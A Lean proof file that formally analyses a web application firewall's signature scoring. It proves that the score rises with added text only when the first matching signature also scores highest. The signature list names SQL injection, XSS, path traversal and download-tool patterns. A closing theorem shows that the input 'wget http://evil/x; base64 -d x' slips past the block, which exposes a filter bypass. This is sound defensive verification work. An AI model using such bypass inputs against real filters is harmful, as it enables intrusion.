import Aegis.Waf.Proxy
import Mathlib.Order.Bounds.Defs

/-! Whether the score of the rules can only rise when text is added. -/
namespace Aegis.Waf

/-- The lowered text contains a signature of the table. -/
def Flagged (D : CaseData) (raw : Text) : Prop :=
  ∃ s ∈ highRiskSigs, Text.Contains s.1 (D.lower raw)

/-- The scores of the signatures present, as a set: the order of the table is no part of it. -/
def presentScores (D : CaseData) (raw : Text) : Set FloatVal :=
  {score | ∃ s ∈ highRiskSigs, Text.Contains s.1 (D.lower raw) ∧ s.2 = score}

/-- No part of the text scores more than the text, its score is the greatest of those
present, and it is denied if a part of it is. -/
structure ScoreMonotone (D : CaseData) (onnxScore : Text → FloatVal) (raw : Text) : Prop where
  le : ∀ part, part <:+: raw → Flagged D part →
    aiThreatDetection D onnxScore part ≤ aiThreatDetection D onnxScore raw
  greatest : Flagged D raw → IsGreatest (presentScores D raw) (aiThreatDetection D onnxScore raw)
  denied : ∀ part, part <:+: raw → Flagged D part → .fin 0.95 < aiThreatDetection D onnxScore part →
    .fin 0.95 < aiThreatDetection D onnxScore raw

/-- No signature that is present stands in the table behind the first one present and
scores more. -/
def FirstIsHighest (t : Text) : Prop :=
  Text.Contains "union select".toList t ∨
    ((Text.Contains "1=1".toList t → ¬ Text.Contains "<script>".toList t) ∧
      ((Text.Contains "1=1".toList t ∨ Text.Contains "<script>".toList t ∨
          Text.Contains "javascript:".toList t) →
        ¬ Text.Contains "cmd.exe".toList t ∧ ¬ Text.Contains "/etc/passwd".toList t) ∧
      ((Text.Contains "wget ".toList t ∨ Text.Contains "curl ".toList t) →
        Text.Contains "base64 -d".toList t →
          Text.Contains "1=1".toList t ∨ Text.Contains "<script>".toList t ∨
            Text.Contains "javascript:".toList t ∨ Text.Contains "cmd.exe".toList t ∨
            Text.Contains "/etc/passwd".toList t ∨ Text.Contains "../../../".toList t))

theorem Flagged.of_infix {D : CaseData} {part raw : Text} (h : Flagged D part)
    (hin : part <:+: raw) : Flagged D raw := by
  obtain ⟨s, hs, hcontains⟩ := h
  exact ⟨s, hs, D.contains_lower_of_infix ((highRiskSigs_ascii s hs).2) hcontains hin⟩

/-- A flagged text has the score of the first signature present. -/
theorem score_of_flagged {D : CaseData} {raw : Text} (h : Flagged D raw)
    (onnxScore : Text → FloatVal) :
    signatureScore (D.lower raw) highRiskSigs = some (aiThreatDetection D onnxScore raw) := by
  unfold aiThreatDetection
  cases hscore : signatureScore (D.lower raw) highRiskSigs with
  | some score => rfl
  | none =>
    obtain ⟨s, hs, hcontains⟩ := h
    exact absurd hcontains (signatureScore_eq_none_iff.mp hscore s hs)

/-- The first signature present scores as much as every one present. -/
def TopFirst (t : Text) (sigs : List (Text × FloatVal)) : Prop :=
  ∀ score, signatureScore t sigs = some score → ∀ s ∈ sigs, Text.Contains s.1 t → s.2 ≤ score

theorem topFirst_nil (t : Text) : TopFirst t [] := fun _ _ _ hs => absurd hs List.not_mem_nil

theorem topFirst_cons_of_contains {t : Text} {q : ℚ} {sig : Text} {sigs : List (Text × FloatVal)}
    (h : Text.Contains sig t) :
    TopFirst t ((sig, .fin q) :: sigs) ↔ ∀ s ∈ sigs, Text.Contains s.1 t → s.2 ≤ .fin q := by
  have hscore : signatureScore t ((sig, .fin q) :: sigs) = some (.fin q) := by
    rw [signatureScore, if_pos h]
  unfold TopFirst
  rw [hscore]
  simp only [Option.some.injEq, forall_eq', List.forall_mem_cons]
  exact and_iff_right (fun _ => (le_refl q : q ≤ q))

theorem topFirst_cons_of_not {t : Text} {s : Text × FloatVal} {sigs : List (Text × FloatVal)}
    (h : ¬ Text.Contains s.1 t) : TopFirst t (s :: sigs) ↔ TopFirst t sigs := by
  unfold TopFirst
  rw [signatureScore, if_neg h]
  simp [h]

theorem forall_le_iff {t : Text} {sigs : List (Text × FloatVal)} {x : FloatVal} :
    (∀ s ∈ sigs, Text.Contains s.1 t → s.2 ≤ x) ↔
      ∀ s ∈ sigs.filter (fun s => ¬ s.2 ≤ x), ¬ Text.Contains s.1 t := by
  simp only [List.mem_filter, decide_eq_true_eq]
  constructor
  · intro h s hs hcontains
    exact hs.2 (h s hs.1 hcontains)
  · intro h s hs hcontains
    by_contra hhigh
    exact h s ⟨hs, hhigh⟩ hcontains

/-- The case that the head of the table is present; `high` is what scores more. -/
theorem topFirst_cons_iff {t sig : Text} {q : ℚ} {rest : List (Text × FloatVal)} (high : List Text)
    (h : Text.Contains sig t)
    (hhigh : (rest.filter fun s => ¬ s.2 ≤ .fin q).map Prod.fst = high) :
    TopFirst t ((sig, .fin q) :: rest) ↔ ∀ s ∈ high, ¬ Text.Contains s t := by
  rw [topFirst_cons_of_contains h, forall_le_iff, ← hhigh, List.forall_mem_map]

/-- Where no entry behind the first scores more, the first one settles it. -/
theorem topFirst_cons_of_greatest {t sig : Text} {q : ℚ} {rest : List (Text × FloatVal)}
    (h : Text.Contains sig t) (hhigh : (rest.filter fun s => ¬ s.2 ≤ .fin q).map Prod.fst = []) :
    TopFirst t ((sig, .fin q) :: rest) := by
  rw [topFirst_cons_iff [] h hhigh]
  exact fun s hs => absurd hs List.not_mem_nil

theorem topFirst_iff (t : Text) : TopFirst t highRiskSigs ↔ FirstIsHighest t := by
  unfold highRiskSigs FirstIsHighest
  by_cases h0 : Text.Contains "union select".toList t
  · exact iff_of_true (topFirst_cons_of_greatest h0 (by decide +kernel)) (Or.inl h0)
  rw [topFirst_cons_of_not h0, or_iff_right h0]
  by_cases h1 : Text.Contains "1=1".toList t
  · rw [topFirst_cons_iff ["<script>".toList, "cmd.exe".toList, "/etc/passwd".toList] h1
      (by decide +kernel), List.forall_mem_cons, List.forall_mem_cons, List.forall_mem_singleton]
    constructor
    · exact fun hno => ⟨fun _ => hno.1, fun _ => hno.2, fun _ _ => Or.inl h1⟩
    · exact fun h => ⟨h.1 h1, h.2.1 (Or.inl h1)⟩
  have hone : ∀ {p : Prop}, Text.Contains "1=1".toList t → p := fun h => absurd h h1
  rw [topFirst_cons_of_not h1]
  by_cases h2 : Text.Contains "<script>".toList t
  · rw [topFirst_cons_iff ["cmd.exe".toList, "/etc/passwd".toList] h2 (by decide +kernel),
      List.forall_mem_cons, List.forall_mem_singleton]
    constructor
    · exact fun hno => ⟨hone, fun _ => hno, fun _ _ => Or.inr (Or.inl h2)⟩
    · exact fun h => h.2.1 (Or.inr (Or.inl h2))
  rw [topFirst_cons_of_not h2]
  by_cases h3 : Text.Contains "javascript:".toList t
  · rw [topFirst_cons_iff ["cmd.exe".toList, "/etc/passwd".toList] h3 (by decide +kernel),
      List.forall_mem_cons, List.forall_mem_singleton]
    constructor
    · exact fun hno => ⟨hone, fun _ => hno, fun _ _ => Or.inr (Or.inr (Or.inl h3))⟩
    · exact fun h => h.2.1 (Or.inr (Or.inr h3))
  rw [topFirst_cons_of_not h3]
  have hlower : ¬ (Text.Contains "1=1".toList t ∨ Text.Contains "<script>".toList t ∨
      Text.Contains "javascript:".toList t) := by simp only [h1, h2, h3, or_false, not_false_iff]
  by_cases h4 : Text.Contains "cmd.exe".toList t
  · exact iff_of_true (topFirst_cons_of_greatest h4 (by decide +kernel))
      ⟨hone, fun h => absurd h hlower, fun _ _ => Or.inr (Or.inr (Or.inr (Or.inl h4)))⟩
  rw [topFirst_cons_of_not h4]
  by_cases h5 : Text.Contains "/etc/passwd".toList t
  · exact iff_of_true (topFirst_cons_of_greatest h5 (by decide +kernel))
      ⟨hone, fun h => absurd h hlower, fun _ _ => Or.inr (Or.inr (Or.inr (Or.inr (Or.inl h5))))⟩
  rw [topFirst_cons_of_not h5]
  by_cases h6 : Text.Contains "../../../".toList t
  · exact iff_of_true (topFirst_cons_of_greatest h6 (by decide +kernel))
      ⟨hone, fun h => absurd h hlower, fun _ _ => Or.inr (Or.inr (Or.inr (Or.inr (Or.inr h6))))⟩
  rw [topFirst_cons_of_not h6]
  -- only the last three are left, and the first two of them score less than the third
  have hsharp : ¬ (Text.Contains "1=1".toList t ∨ Text.Contains "<script>".toList t ∨
      Text.Contains "javascript:".toList t ∨ Text.Contains "cmd.exe".toList t ∨
      Text.Contains "/etc/passwd".toList t ∨ Text.Contains "../../../".toList t) := by
    simp only [h1, h2, h3, h4, h5, h6, or_false, not_false_iff]
  by_cases h7 : Text.Contains "wget ".toList t
  · rw [topFirst_cons_iff ["base64 -d".toList] h7 (by decide +kernel), List.forall_mem_singleton]
    constructor
    · exact fun hno => ⟨hone, fun h => absurd h hlower, fun _ h => absurd h hno⟩
    · exact fun h h9 => hsharp (h.2.2 (Or.inl h7) h9)
  rw [topFirst_cons_of_not h7]
  by_cases h8 : Text.Contains "curl ".toList t
  · rw [topFirst_cons_iff ["base64 -d".toList] h8 (by decide +kernel), List.forall_mem_singleton]
    constructor
    · exact fun hno => ⟨hone, fun h => absurd h hlower, fun _ h => absurd h hno⟩
    · exact fun h h9 => hsharp (h.2.2 (Or.inr h8) h9)
  rw [topFirst_cons_of_not h8]
  have htools : ¬ (Text.Contains "wget ".toList t ∨ Text.Contains "curl ".toList t) := by
    simp only [h7, h8, or_false, not_false_iff]
  refine iff_of_true ?_ ⟨hone, fun h => absurd h hlower, fun h => absurd h htools⟩
  by_cases h9 : Text.Contains "base64 -d".toList t
  · exact topFirst_cons_of_greatest h9 (by decide +kernel)
  · rw [topFirst_cons_of_not h9]
    exact topFirst_nil t

theorem mem_presentScores {D : CaseData} {onnxScore : Text → FloatVal} {raw : Text}
    (h : Flagged D raw) : aiThreatDetection D onnxScore raw ∈ presentScores D raw :=
  signatureScore_mem (score_of_flagged h onnxScore)

/-- Adding text can only raise the score exactly where no signature that scores more
stands behind the first one present. -/
theorem scoreMonotone_iff (D : CaseData) (onnxScore : Text → FloatVal) (raw : Text) :
    ScoreMonotone D onnxScore raw ↔ FirstIsHighest (D.lower raw) := by
  rw [← topFirst_iff]
  constructor
  · intro h score hscore s hs hcontains
    have hflagged : Flagged D raw := ⟨s, hs, hcontains⟩
    rw [score_of_flagged hflagged onnxScore] at hscore
    cases hscore
    exact (h.greatest hflagged).2 ⟨s, hs, hcontains, rfl⟩
  · intro htop
    have hle : ∀ part, part <:+: raw → Flagged D part →
        aiThreatDetection D onnxScore part ≤ aiThreatDetection D onnxScore raw := by
      intro part hin hflagged
      obtain ⟨s, hs, hcontains, hscore⟩ := @mem_presentScores D onnxScore part hflagged
      rw [← hscore]
      exact htop _ (score_of_flagged (hflagged.of_infix hin) onnxScore) s hs
        (D.contains_lower_of_infix ((highRiskSigs_ascii s hs).2) hcontains hin)
    refine ⟨hle, fun hflagged => ⟨mem_presentScores hflagged, ?_⟩, ?_⟩
    · rintro score ⟨s, hs, hcontains, rfl⟩
      exact htop _ (score_of_flagged hflagged onnxScore) s hs hcontains
    · intro part hin hflagged habove
      exact FloatVal.lt_of_lt_of_le habove (hle part hin hflagged)

/-- `base64 -d` alone is denied, and passed on with a download in front of it. -/
theorem download_lowers_score : ¬ ScoreMonotone asciiCaseData (fun _ => .fin 0)
    "wget http://evil/x; base64 -d x".toList := by
  intro h
  have hin : "base64 -d x".toList <:+: "wget http://evil/x; base64 -d x".toList := by decide +kernel
  have hflagged : Flagged asciiCaseData "base64 -d x".toList :=
    ⟨("base64 -d".toList, .fin 0.96), by simp [highRiskSigs], by decide +kernel⟩
  have halone : FloatVal.fin 0.95 < aiThreatDetection asciiCaseData (fun _ => .fin 0)
      "base64 -d x".toList := by decide +kernel
  have hpassed : ¬ FloatVal.fin 0.95 < aiThreatDetection asciiCaseData (fun _ => .fin 0)
      "wget http://evil/x; base64 -d x".toList := by decide +kernel
  exact hpassed (h.denied _ hin hflagged halone)

end Aegis.Waf
